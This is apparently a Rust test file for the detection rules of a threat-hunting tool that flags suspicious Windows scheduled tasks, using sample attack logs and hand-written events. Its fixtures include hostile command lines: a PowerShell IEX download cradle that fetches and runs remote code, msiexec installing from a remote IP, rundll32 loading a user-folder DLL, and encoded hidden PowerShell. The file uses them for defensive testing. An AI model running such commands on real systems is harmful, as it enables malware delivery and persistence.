//! taskhunt's built-in rule pack (crates/sigma/rules): each rule fires on a real event of the
//! corpus where the corpus has one (evtx-attack-samples; skipped without TASKHUNT_CORPUS), on a
//! hand-written event otherwise, and stays quiet on a near miss; every rule file passes
//! `rules lint`.

use std::path::Path;
use std::sync::Arc;
use taskhunt_events::{Event, Fields, SourceFile, Timestamp, Value};
use taskhunt_sigma::{RuleSet, builtin, lint};

const USER_WRITABLE: &str = "d1838468-c795-4e4b-8a24-2877c927f186";
const ENCODED_POWERSHELL_TASK: &str = "e87d7917-b450-4e48-bbba-c390b68feed4";
const LOLBIN_TASK: &str = "0b7f886d-9d47-4462-8bbd-0200d92e2d02";
const HIDDEN: &str = "8a377868-2422-4352-b4da-1ae80c676488";
const SYSTEM_USER_WRITABLE: &str = "af92690c-0104-49d7-b17e-69facd1b8f9a";
const REMOTE_ATSVC: &str = "0d1a459c-7533-4b3e-ac04-a35c77cb1de4";
const TASK_CACHE: &str = "f837aabd-1ddc-454e-aefe-de180fe701aa";
const REGISTERED: &str = "157f99f2-da6d-4adf-ac30-535d3d776311";
const DELETED: &str = "a4cd44d6-fb96-4721-a102-212fbd66c9e3";
const DELETED_SOON: &str = "af195288-2eb3-4bc9-bf25-8b2cb3f5ddb4";
const ENCODED_POWERSHELL: &str = "6fc29567-c936-4769-9022-5693fd2314d1";
const SCHTASKS: &str = "44e5a8e9-2f86-4314-9aab-28cf537b5ffe";

fn pack() -> RuleSet {
    let set = RuleSet::load(&builtin::sources(), None);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    set
}

fn index(set: &RuleSet, id: &str) -> usize {
    set.rule_index(id).unwrap_or_else(|| panic!("no built-in rule {id}"))
}

/// Whether rule `id` fires on `e`, through the rule set's index (so its logsource applies).
fn fires(set: &RuleSet, id: &str, e: &Event) -> bool {
    let ri = index(set, id);
    let indexed = set.matches(e).iter().any(|h| h.rule == ri);
    assert_eq!(indexed, set.rule_matches(ri, e).is_some(), "matches() and rule_matches() disagree");
    indexed
}

/// The events of one corpus file, or `None` without the corpus.
fn corpus_file(test: &str, rel: &str) -> Option<Vec<Event>> {
    let dir = taskhunt_events::testing::evtx_samples(test)?;
    let batch = taskhunt_events::read_file(&dir.join(rel));
    assert!(!batch.events.is_empty(), "{rel}: no events ({:?})", batch.issues);
    Some(batch.events)
}

fn record(events: &[Event], record_id: u64) -> &Event {
    events.iter().find(|e| e.record_id == record_id).unwrap_or_else(|| panic!("no record {record_id}"))
}

fn event(channel: &str, id: u32, time: &str, fields: &[(&str, &str)]) -> Event {
    let mut system = Fields::new();
    system.insert_str("EventID", Value::UInt(id.into()));
    system.insert_str("Channel", Value::from(channel));
    system.insert_str("Computer", Value::from("WS01.example.corp"));
    let mut data = Fields::new();
    for (n, v) in fields {
        data.insert_str(n, Value::from(*v));
    }
    Event {
        timestamp: Timestamp::parse(time).expect("time"),
        computer: "WS01.example.corp".into(),
        channel: channel.into(),
        provider: "fixture".into(),
        event_id: id,
        record_id: 1,
        source: Arc::new(SourceFile { path: "fixture".into(), format: "test" }),
        system,
        fields: data,
    }
}

/// A task definition as Windows writes it into 4698's TaskContent (trimmed to what matters).
fn task_xml(user_id: &str, run_level: &str, hidden: bool, command: &str, arguments: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n      <UserId>{user_id}</UserId>\r\n      <RunLevel>{run_level}</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n  <Settings>\r\n    <Hidden>{hidden}</Hidden>\r\n  </Settings>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>{command}</Command>\r\n      <Arguments>{arguments}</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
    )
}

fn task_event(id: u32, time: &str, name: &str, content: &str) -> Event {
    let field = if id == 4702 { "TaskContentNew" } else { "TaskContent" };
    event("Security", id, time, &[("SubjectUserName", "alice"), ("TaskName", name), (field, content)])
}

#[test]
fn every_rule_passes_lint_and_has_a_test() {
    for (name, text) in builtin::RULES {
        let problems = lint::lint_file(Path::new(name), text);
        assert!(problems.is_empty(), "{name}: {}", problems.iter().map(|p| p.to_string()).collect::<Vec<_>>().join("; "));
    }
    let set = pack();
    let tested = [
        USER_WRITABLE,
        ENCODED_POWERSHELL_TASK,
        LOLBIN_TASK,
        HIDDEN,
        SYSTEM_USER_WRITABLE,
        REMOTE_ATSVC,
        TASK_CACHE,
        REGISTERED,
        DELETED,
        ENCODED_POWERSHELL,
        SCHTASKS,
    ];
    for r in &set.rules {
        let id = r.meta.id.as_deref().unwrap_or("");
        assert!(tested.contains(&id), "built-in rule {:?} ({id}) has no test here", r.meta.title);
    }
    assert_eq!(set.rules.len(), tested.len());
    assert_eq!(set.correlations.len(), 1);
    assert_eq!(set.correlations[0].meta.id.as_deref(), Some(DELETED_SOON));
}

#[test]
fn user_writable_path_task() {
    let set = pack();
    let Some(atexec) = corpus_file("user_writable_path_task", "Execution/temp_scheduled_task_4698_4699.evtx") else { return };
    // atexec's task: `cmd.exe /C tasklist > %windir%\Temp\CYAlyNSS.tmp`.
    assert!(fires(&set, USER_WRITABLE, record(&atexec, 566836)));
    // The 4699 of the same task is a deletion, not a creation.
    assert!(!fires(&set, USER_WRITABLE, record(&atexec, 566840)));
    // A task updated (4702) to write to c:\users\public (lower case in the task).
    let Some(update) = corpus_file("user_writable_path_task", "Lateral Movement/remote task update 4624 4702 same logonid.evtx") else {
        return;
    };
    assert!(fires(&set, USER_WRITABLE, record(&update, 2171293)));
    // Near miss: Windows' own SvcRestartTask update, a COM handler with no path at all.
    let Some(dc) = corpus_file("user_writable_path_task", "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx") else {
        return;
    };
    assert!(!fires(&set, USER_WRITABLE, record(&dc, 198238563)));
}

#[test]
fn encoded_powershell_task() {
    // The corpus has no task that runs PowerShell: hand-written 4698s.
    let set = pack();
    let t = "2026-03-01T10:00:00Z";
    let encoded =
        task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
    assert!(fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Updater", &encoded)));
    // The same through an update, with another dash and the long flag abbreviated.
    let slash = task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "/NoP /enco SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
    assert!(fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4702, t, "\\Updater", &slash)));
    // The flag first in <Arguments>, with no space before it.
    let first = task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
    assert!(fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Updater", &first)));
    let iex =
        task_xml("S-1-5-18", "HighestAvailable", false, "pwsh.exe", "-c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"");
    assert!(fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Updater", &iex)));
    // Near miss: PowerShell running a script file from Program Files.
    let plain =
        task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-NoProfile -File \"C:\\Program Files\\Backup\\run.ps1\"");
    assert!(!fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Backup", &plain)));
}

#[test]
fn lolbin_task() {
    // No corpus task runs a LOLBin (they run cmd.exe and FullPowers.exe): hand-written 4698s.
    let set = pack();
    let t = "2026-03-01T10:00:00Z";
    let rundll = task_xml(
        "S-1-5-21-1-2-3-1001",
        "LeastPrivilege",
        false,
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Users\\alice\\AppData\\Local\\x.dll,DllRegisterServer",
    );
    assert!(fires(&set, LOLBIN_TASK, &task_event(4698, t, "\\Emotet", &rundll)));
    let msiexec_url = task_xml("S-1-5-18", "HighestAvailable", false, "msiexec.exe", "/q /i http://203.0.113.7/p.msi");
    assert!(fires(&set, LOLBIN_TASK, &task_event(4698, t, "\\Inst", &msiexec_url)));
    let msiexec_in_cmd = task_xml("S-1-5-18", "HighestAvailable", false, "cmd.exe", "/c msiexec /q /i https://203.0.113.7/p.msi");
    assert!(fires(&set, LOLBIN_TASK, &task_event(4698, t, "\\Inst", &msiexec_in_cmd)));
    // Near miss: msiexec installing a local package. The task XML still holds a URL (its
    // namespace, http://schemas.microsoft.com/...), which must not count as msiexec's.
    let msiexec_local = task_xml("S-1-5-18", "HighestAvailable", false, "msiexec.exe", "/q /i C:\\Packages\\agent.msi");
    assert!(!fires(&set, LOLBIN_TASK, &task_event(4698, t, "\\Inst", &msiexec_local)));
}

#[test]
fn hidden_task() {
    let set = pack();
    let Some(atexec) = corpus_file("hidden_task", "Execution/temp_scheduled_task_4698_4699.evtx") else { return };
    assert!(fires(&set, HIDDEN, record(&atexec, 566836)), "atexec registers <Hidden>true</Hidden>");
    assert!(!fires(&set, HIDDEN, record(&atexec, 566840)), "4699: the deletion of the hidden task");
    // Near miss: FullPowers' task is a 4698 but not hidden.
    let Some(fullpowers) =
        corpus_file("hidden_task", "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx")
    else {
        return;
    };
    assert!(!fires(&set, HIDDEN, record(&fullpowers, 282588)));
}

#[test]
fn system_task_running_user_writable_binary() {
    let set = pack();
    let Some(atexec) = corpus_file("system_task_running_user_writable_binary", "Execution/temp_scheduled_task_4698_4699.evtx") else {
        return;
    };
    // S-1-5-18, HighestAvailable, output in %windir%\Temp\.
    assert!(fires(&set, SYSTEM_USER_WRITABLE, record(&atexec, 566836)));
    let Some(update) =
        corpus_file("system_task_running_user_writable_binary", "Lateral Movement/remote task update 4624 4702 same logonid.evtx")
    else {
        return;
    };
    assert!(fires(&set, SYSTEM_USER_WRITABLE, record(&update, 2171293)), "<UserId>SYSTEM</UserId>, c:\\users\\public");
    // Near miss: FullPowers runs from C:\Users\Public but as LOCAL SERVICE (S-1-5-19) with
    // LeastPrivilege: user-writable, not privileged.
    let Some(fullpowers) = corpus_file(
        "system_task_running_user_writable_binary",
        "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx",
    ) else {
        return;
    };
    let e = record(&fullpowers, 282588);
    assert!(fires(&set, USER_WRITABLE, e));
    assert!(!fires(&set, SYSTEM_USER_WRITABLE, e));
}

#[test]
fn remote_atsvc_pipe() {
    let set = pack();
    let Some(target) = corpus_file("remote_atsvc_pipe", "Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx") else { return };
    // 5145: \\*\IPC$, atsvc, from 10.0.2.17.
    assert!(fires(&set, REMOTE_ATSVC, record(&target, 566832)));
    let hits = target.iter().filter(|e| fires(&set, REMOTE_ATSVC, e)).count();
    assert_eq!(hits, 1, "only the 5145 on atsvc");
    // Near miss: the same share, the service control manager's pipe (remote service creation).
    let Some(svcctl) = corpus_file("remote_atsvc_pipe", "Lateral Movement/LM_Remote_Service01_5145_svcctl.evtx") else { return };
    let e = svcctl.iter().find(|e| e.event_id == 5145 && e.text("RelativeTargetName").as_deref() == Some("svcctl")).expect("5145 svcctl");
    assert!(!fires(&set, REMOTE_ATSVC, e));
}

#[test]
fn task_cache_security_descriptor_deletion() {
    // No corpus event deletes a TaskCache value: hand-written Sysmon 12 events shaped like the
    // corpus's (RuleName, EventType, UtcTime, ProcessGuid, ProcessId, Image, TargetObject).
    let set = pack();
    let sysmon = |id: u32, event_type: &str, target: &str| {
        event(
            "Microsoft-Windows-Sysmon/Operational",
            id,
            "2026-03-01T10:00:00Z",
            &[
                ("RuleName", ""),
                ("EventType", event_type),
                ("UtcTime", "2026-03-01 10:00:00.000"),
                ("ProcessGuid", "{747f3d96-d765-5d31-0000-001022c02800}"),
                ("ProcessId", "4242"),
                ("Image", "C:\\Windows\\System32\\reg.exe"),
                ("TargetObject", target),
            ],
        )
    };
    let tree = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater";
    assert!(fires(&set, TASK_CACHE, &sysmon(12, "DeleteValue", &format!("{tree}\\SD"))), "Tarrask: SD deleted");
    assert!(fires(&set, TASK_CACHE, &sysmon(12, "DeleteValue", &format!("{tree}\\Index"))));
    // Near misses: the task's Id value, and the whole key deleted (an ordinary task deletion).
    assert!(!fires(&set, TASK_CACHE, &sysmon(12, "DeleteValue", &format!("{tree}\\Id"))));
    assert!(!fires(&set, TASK_CACHE, &sysmon(12, "DeleteKey", tree)));
    // Setting SD (Sysmon 13) is registry_set, not a deletion.
    assert!(!fires(&set, TASK_CACHE, &sysmon(13, "SetValue", &format!("{tree}\\SD"))));
}

#[test]
fn task_deleted_soon_after_creation() {
    let set = pack();
    let correlate = |events: &[Event]| correlate(&set, events);
    // Base rules: every 4698 and 4699, and nothing else; their own alerts are suppressed.
    let (reg, del) = (index(&set, REGISTERED), index(&set, DELETED));
    assert!(set.rules[reg].suppressed && set.rules[del].suppressed);

    // Fixtures: created at 10:00:00, deleted 4m59s later; deleted 5m01s later; deleted before created.
    let xml = task_xml("S-1-5-18", "HighestAvailable", true, "cmd.exe", "/C whoami");
    let created = task_event(4698, "2026-03-01T10:00:00Z", "\\Once", &xml);
    assert!(fires(&set, REGISTERED, &created) && !fires(&set, DELETED, &created));
    let soon = task_event(4699, "2026-03-01T10:04:59Z", "\\Once", &xml);
    assert!(fires(&set, DELETED, &soon));
    let hits = correlate(&[created.clone(), soon.clone()]);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].0.alert.group.get("TaskName").map(String::as_str), Some("\\Once"));
    let late = task_event(4699, "2026-03-01T10:05:01Z", "\\Once", &xml);
    assert!(correlate(&[created.clone(), late]).is_empty(), "outside the five minutes");
    let earlier = task_event(4699, "2026-03-01T09:59:00Z", "\\Once", &xml);
    assert!(correlate(&[earlier, created.clone()]).is_empty(), "deleted before it was created");
    let other = task_event(4699, "2026-03-01T10:01:00Z", "\\Other", &xml);
    assert!(correlate(&[created, other]).is_empty(), "another task");

    // The corpus: atexec registers \CYAlyNSS and deletes it 31 ms later.
    let Some(atexec) = corpus_file("task_deleted_soon_after_creation", "Execution/temp_scheduled_task_4698_4699.evtx") else { return };
    let hits = correlate(&atexec);
    assert_eq!(hits.len(), 1);
    let (hit, records) = &hits[0];
    assert_eq!(set.correlations[hit.correlation].meta.id.as_deref(), Some(DELETED_SOON));
    assert_eq!(hit.alert.group.get("TaskName").map(String::as_str), Some("\\CYAlyNSS"));
    assert_eq!(hit.alert.group.get("Computer").map(String::as_str), Some("WIN-77LTAPHIQ1R.example.corp"));
    assert_eq!(records, &[566836, 566840]);
}

/// Runs the pack over `events` and its correlations over the detections; each hit comes with
/// the record ids of the events behind it.
fn correlate(set: &RuleSet, events: &[Event]) -> Vec<(taskhunt_sigma::CorrelationHit, Vec<u64>)> {
    let detections: Vec<(usize, &Event)> = events.iter().flat_map(|e| set.matches(e).into_iter().map(move |h| (h.rule, e))).collect();
    set.correlate(&detections)
        .into_iter()
        .map(|h| {
            let records = h.detections.iter().map(|&d| detections[d].1.record_id).collect();
            (h, records)
        })
        .collect()
}

#[test]
fn encoded_powershell_process() {
    let set = pack();
    let Some(iis) =
        corpus_file("encoded_powershell_process", "Credential Access/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx")
    else {
        return;
    };
    // `powershell.exe -nop -noni -enc JABQAHIAbwBnAHIAZQBzAHMA...`
    assert!(fires(&set, ENCODED_POWERSHELL, record(&iis, 5875)));
    // Near miss: PowerShell started with a plain command.
    let Some(vs) = corpus_file("encoded_powershell_process", "Execution/execution_evasion_visual_studio_prebuild_event.evtx") else {
        return;
    };
    let e = record(&vs, 2429138);
    assert_eq!(e.text("CommandLine").as_deref(), Some("powershell.exe   start-process notepad.exe"));
    assert!(!fires(&set, ENCODED_POWERSHELL, e));
}

#[test]
fn encoded_powershell_process_on_security_4688() {
    // The same rule on a 4688 (process_creation covers it): hand-written, the corpus's 4688s
    // carry no command lines.
    let set = pack();
    let e = event(
        "Security",
        4688,
        "2026-03-01T10:00:00Z",
        &[
            ("NewProcessName", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ("NewProcessId", "0x1f40"),
            ("ProcessId", "0x3e8"),
            ("CommandLine", "powershell.exe -NoP -EncodedCommand SQBFAFgA"),
            ("ParentProcessName", "C:\\Windows\\System32\\svchost.exe"),
        ],
    );
    assert!(fires(&set, ENCODED_POWERSHELL, &e));
}

#[test]
fn schtasks_create_suspicious() {
    let set = pack();
    let Some(mshta) = corpus_file("schtasks_create_suspicious", "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx")
    else {
        return;
    };
    // `schtasks.exe /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://..."`
    assert!(fires(&set, SCHTASKS, record(&mshta, 4129)));
    let Some(elevator) = corpus_file("schtasks_create_suspicious", "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx")
    else {
        return;
    };
    // `/create /xml c:\users\ieuser\appdata\local\temp\elevator.xml /tn elevator`
    assert!(fires(&set, SCHTASKS, record(&elevator, 16243)));
    // A task created to run as SYSTEM, the account name quoted: `/ru "System"`.
    let Some(edr) = corpus_file("schtasks_create_suspicious", "AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx") else {
        return;
    };
    assert!(fires(&set, SCHTASKS, record(&edr, 5002)));
    // Near misses: the same tool running (/run) and deleting (/delete) that task.
    assert!(!fires(&set, SCHTASKS, record(&elevator, 16245)));
    assert!(!fires(&set, SCHTASKS, record(&elevator, 16249)));
    // Near miss: an Atomic Red Team test creating a task that runs System32\cmd.exe.
    let Some(atomic) = corpus_file("schtasks_create_suspicious", "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx") else {
        return;
    };
    assert!(!fires(&set, SCHTASKS, record(&atomic, 4086)));
}
